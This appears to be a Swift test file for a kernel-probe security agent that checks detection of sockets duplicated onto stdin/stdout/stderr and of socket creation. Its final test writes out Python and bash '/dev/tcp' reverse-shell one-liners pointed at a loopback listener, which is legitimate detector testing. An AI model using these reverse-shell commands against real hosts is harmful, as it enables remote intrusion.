import Foundation
import InfraSightCore
import InfraSightTestSupport
import XCTest
@testable import InfraSightAgent
#if canImport(Glibc)
import Glibc
#endif

/// Real kernel tests of the `dup` and `socket` probes (same harness as the other probes): this process
/// makes the syscalls, the kernel's filter decides what is emitted, every decoded field is checked.
/// The dups briefly put sockets on this process's own fds 0-2 and put the saved fds back at once.
extension ProbeKernelTests {
    /// A connected TCP pair on loopback: (client, accepted server side, client's port, server's port).
    func tcpPair(family: Int32) -> (client: Int32, server: Int32, clientPort: UInt16, serverPort: UInt16) {
        let (l, port) = ProbeSockets.bound(family: family, type: Int32(SOCK_STREAM.rawValue))
        let c = socket(family, Int32(SOCK_STREAM.rawValue), 0)
        precondition(ProbeSockets.connectTo(c, family: family, port: port) == 0)
        let s = accept(l, nil, nil)
        close(l)
        return (c, s, ProbeSockets.localPort(c), port)
    }

    func testDupOfSocketsOntoStdioIsReportedAndFilesAndOtherFdsAreNot() throws {
        let probe = try makeProbe(.dup)
        defer { probe.close() }
        XCTAssertTrue(probe.hookDescription.contains("sys_enter_dup2/sys_exit_dup2"), probe.hookDescription)
        XCTAssertTrue(probe.hookDescription.contains("sys_enter_dup3/sys_exit_dup3"), probe.hookDescription)
        XCTAssertTrue(probe.hookDescription.contains("sys_enter_fcntl/sys_exit_fcntl"), probe.hookDescription)
        let t4 = tcpPair(family: AF_INET), t6 = tcpPair(family: AF_INET6)
        let (udp, udpPort) = ProbeSockets.bound(family: AF_INET, type: Int32(SOCK_DGRAM.rawValue), listen: false)
        let udpClient = socket(AF_INET, Int32(SOCK_DGRAM.rawValue), 0)
        XCTAssertEqual(ProbeSockets.connectTo(udpClient, family: AF_INET, port: udpPort), 0)
        var pair: [Int32] = [-1, -1]
        XCTAssertEqual(socketpair(AF_UNIX, Int32(SOCK_STREAM.rawValue), 0, &pair), 0)
        let file = open(tmp + "/plain", O_CREAT | O_RDWR, 0o600)
        let saved = [dup(0), dup(1), dup(2)]
        defer { for fd in [t4.client, t4.server, t6.client, t6.server, udp, udpClient, pair[0], pair[1], file] + saved { close(fd) } }
        let F_DUPFD = 0, F_DUPFD_CLOEXEC = 1030, F_GETFL = 3
        func restore(_ fd: Int) { ProbeSyscalls.call(ProbeSyscalls.dup2, Int(saved[fd]), fd) }

        // Nothing is asserted while fds 0-2 are sockets: each is put back right after the call.
        var results: [Int] = []
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup2, Int(t4.client), 0)); restore(0)
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup3, Int(t6.client), 1, Int(O_CLOEXEC))); restore(1)
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup2, Int(udpClient), 2)); restore(2)
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup2, Int(pair[0]), 0)); restore(0)
        close(0)
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup, Int(t4.server))); restore(0)
        close(0)
        results.append(ProbeSyscalls.call(ProbeSyscalls.fcntl, Int(t4.server), F_DUPFD_CLOEXEC, 0)); restore(0)
        results.append(ProbeSyscalls.call(ProbeSyscalls.dup3, Int(t4.client), 1, 0x1 /* invalid flag */))
        // Not reported: files onto stdio, sockets onto other fds, other fcntl commands.
        let quiet = [
            ProbeSyscalls.call(ProbeSyscalls.dup2, Int(file), 0), ProbeSyscalls.call(ProbeSyscalls.dup3, Int(file), 2, Int(O_CLOEXEC)),
            ProbeSyscalls.call(ProbeSyscalls.dup2, Int(t4.client), 40), ProbeSyscalls.call(ProbeSyscalls.dup, Int(t4.client)),
            ProbeSyscalls.call(ProbeSyscalls.fcntl, Int(t4.client), F_DUPFD, 50), ProbeSyscalls.call(ProbeSyscalls.fcntl, Int(t4.client), F_GETFL),
        ]
        restore(0); restore(2)
        for fd in [40, quiet[3], 50] { close(Int32(fd)) }
        XCTAssertEqual(results, [0, 1, 2, 0, 0, 0, -Int(EINVAL)])
        XCTAssertEqual(quiet.map { $0 >= 0 }, [true, true, true, true, true, true], "\(quiet)")

        let recs = collect(probe) { $0.count >= 7 }
        usleep(100_000)
        let all = recs + collect(probe, timeout: 0.2) { _ in false }
        let dups = all.compactMap { r -> KernelDupEvent? in if case .dup(let d) = r { return d }; return nil }
        XCTAssertEqual(dups.map(\.syscall), [.dup2, .dup3, .dup2, .dup2, .dup, .fcntl, .dup3], "counters \(probe.counters())")
        guard dups.count == 7 else { return }
        XCTAssertEqual(dups.map(\.oldfd), [t4.client, t6.client, udpClient, pair[0], t4.server, t4.server, t4.client])
        XCTAssertEqual(dups.map(\.newfd), [0, 1, 2, 0, 0, 0, 1])
        XCTAssertEqual(dups.map(\.flags), [0, UInt32(O_CLOEXEC), 0, 0, 0, UInt32(O_CLOEXEC), 1])
        XCTAssertEqual(dups.map(\.family), [2, 10, 2, 1, 2, 2, 2])
        XCTAssertEqual(dups.map(\.sockType), [1, 1, 2, 1, 1, 1, 1])
        XCTAssertEqual(dups.map(\.protocol), [6, 6, 17, 0, 6, 6, 6])
        XCTAssertEqual(dups.map(\.common.ret), results.map(Int64.init))
        let loop4: [UInt8] = [127, 0, 0, 1], loop6 = [UInt8](repeating: 0, count: 15) + [1]
        XCTAssertEqual(dups[0].localAddr, loop4); XCTAssertEqual(dups[0].remoteAddr, loop4)
        XCTAssertEqual(dups[0].localPort, t4.clientPort); XCTAssertEqual(dups[0].remotePort, t4.serverPort)
        XCTAssertEqual(dups[1].localAddr, loop6); XCTAssertEqual(dups[1].remoteAddr, loop6)
        XCTAssertEqual(dups[1].localPort, t6.clientPort); XCTAssertEqual(dups[1].remotePort, t6.serverPort)
        XCTAssertEqual(dups[2].remotePort, udpPort)
        XCTAssertEqual(dups[3].localAddr, []); XCTAssertEqual(dups[3].unixPath, "")
        XCTAssertEqual(dups[4].localPort, t4.serverPort); XCTAssertEqual(dups[4].remotePort, t4.clientPort)
        for d in dups {
            assertCommon(d.common, ret: d.common.ret)
            XCTAssertEqual(d.common.flags, [])
            XCTAssertEqual(KernelRecord.dup(d).probe, .dup)
        }
        XCTAssertEqual(probe.counters().enterMisses, 0)

    }

    func testDupExclusionAppliesAtSysEnter() throws {
        let probe = try makeProbe(.dup)
        defer { probe.close() }
        let t4 = tcpPair(family: AF_INET)
        let saved = dup(0)
        defer { for fd in [t4.client, t4.server, saved] { close(fd) } }
        try probe.addExcludedPid(me)
        let r = ProbeSyscalls.call(ProbeSyscalls.dup2, Int(t4.client), 0)
        ProbeSyscalls.call(ProbeSyscalls.dup2, Int(saved), 0)
        XCTAssertEqual(r, 0)
        usleep(50_000)
        XCTAssertTrue(collect(probe, timeout: 0.3) { _ in false }.isEmpty)
        XCTAssertGreaterThan(probe.counters().excluded, 0, "\(probe.counters())")
    }

    func testSocketCreationOfEveryFamilyButUnixAndNetlinkRoute() throws {
        let probe = try makeProbe(.socket)
        defer { probe.close() }
        XCTAssertTrue(probe.hookDescription.hasPrefix("tracepoint syscalls:sys_enter_socket/sys_exit_socket"), probe.hookDescription)
        struct Case { var name: String; var family: Int; var type: Int; var proto: Int; var emitted: Bool; var ret = 0 }
        let nonblock = Int(SOCK_NONBLOCK.rawValue), cloexec = Int(SOCK_CLOEXEC.rawValue)
        var cases = [
            Case(name: "tcp4 nonblock|cloexec", family: 2, type: 1 | nonblock | cloexec, proto: 0, emitted: true),
            Case(name: "udp6", family: 10, type: 2, proto: 17, emitted: true),
            Case(name: "raw icmp", family: 2, type: 3 | cloexec, proto: 1, emitted: true),
            Case(name: "packet all", family: 17, type: 3, proto: 0x0300, emitted: true),
            Case(name: "netlink audit", family: 16, type: 3, proto: 9, emitted: true),
            Case(name: "netlink route", family: 16, type: 3 | cloexec, proto: 0, emitted: false),
            Case(name: "unix", family: 1, type: 1, proto: 0, emitted: false),
            Case(name: "stream with udp", family: 2, type: 1, proto: 17, emitted: true),
            Case(name: "unknown family", family: 4095, type: 1, proto: 0, emitted: true),
        ]
        for i in cases.indices {
            cases[i].ret = ProbeSyscalls.call(ProbeSyscalls.socket, cases[i].family, cases[i].type, cases[i].proto)
            if cases[i].ret >= 0 { close(Int32(cases[i].ret)) }
        }
        XCTAssertEqual(cases.map { $0.ret >= 0 }, [true, true, true, true, true, true, true, false, false], "\(cases.map(\.ret))")
        let expected = cases.filter(\.emitted)
        let recs = collect(probe) { $0.count >= expected.count }
        usleep(100_000)
        let all = recs + collect(probe, timeout: 0.2) { _ in false }
        let sockets = all.compactMap { r -> KernelSocketCreateEvent? in if case .socketCreate(let s) = r { return s }; return nil }
        XCTAssertEqual(sockets.count, expected.count, "\(sockets); counters \(probe.counters())")
        for (c, s) in zip(expected, sockets) {
            assertCommon(s.common, ret: Int64(c.ret))
            XCTAssertEqual(Int(s.family), c.family, c.name)
            XCTAssertEqual(Int(s.sockType), c.type & 0xf, c.name)
            XCTAssertEqual(Int(s.protocol), c.proto, c.name)
            XCTAssertEqual(s.nonblock, c.type & nonblock != 0, c.name)
            XCTAssertEqual(s.cloexec, c.type & cloexec != 0, c.name)
            XCTAssertEqual(s.fd, c.ret >= 0 ? Int32(c.ret) : -1, c.name)
            XCTAssertEqual(KernelRecord.socketCreate(s).probe, .socket)
        }
        XCTAssertEqual(probe.counters().enterMisses, 0)
    }
}

extension ProbeKernelTests {
    /// A fresh process (python's reverse shell, and bash's /dev/tcp redirection): the socket is on a
    /// low fd and the process has never grown its fd table.
    func testDupOfAFreshProcessReverseShell() throws {
        let probe = try makeProbe(.dup)
        defer { probe.close() }
        let (l, port) = ProbeSockets.bound(family: AF_INET, type: Int32(SOCK_STREAM.rawValue))
        defer { close(l) }
        let py = ProbeSyscalls.spawn(["/usr/bin/python3", "-c",
            "import os, socket\ns = socket.create_connection(('127.0.0.1', \(port)))\nfor fd in (0, 1, 2): os.dup2(s.fileno(), fd)"])
        let sh = ProbeSyscalls.spawn(["/bin/bash", "-c", "exec 0<>/dev/tcp/127.0.0.1/\(port) 1>&0 2>&0; exit 0"])
        XCTAssertEqual(ProbeSyscalls.wait(py), 0)
        XCTAssertEqual(ProbeSyscalls.wait(sh), 0)
        let pids: Set<UInt32> = [UInt32(py), UInt32(sh)]
        let recs = collect(probe, pids: pids) { $0.count >= 6 }
        let dups = recs.compactMap { r -> KernelDupEvent? in if case .dup(let d) = r { return d }; return nil }
        XCTAssertEqual(dups.filter { $0.common.pid == UInt32(py) }.map(\.newfd), [0, 1, 2], "\(probe.counters())")
        XCTAssertEqual(dups.filter { $0.common.pid == UInt32(sh) }.map(\.newfd), [0, 1, 2], "\(probe.counters())")
        for d in dups { XCTAssertEqual(d.remotePort, port) }
    }
}
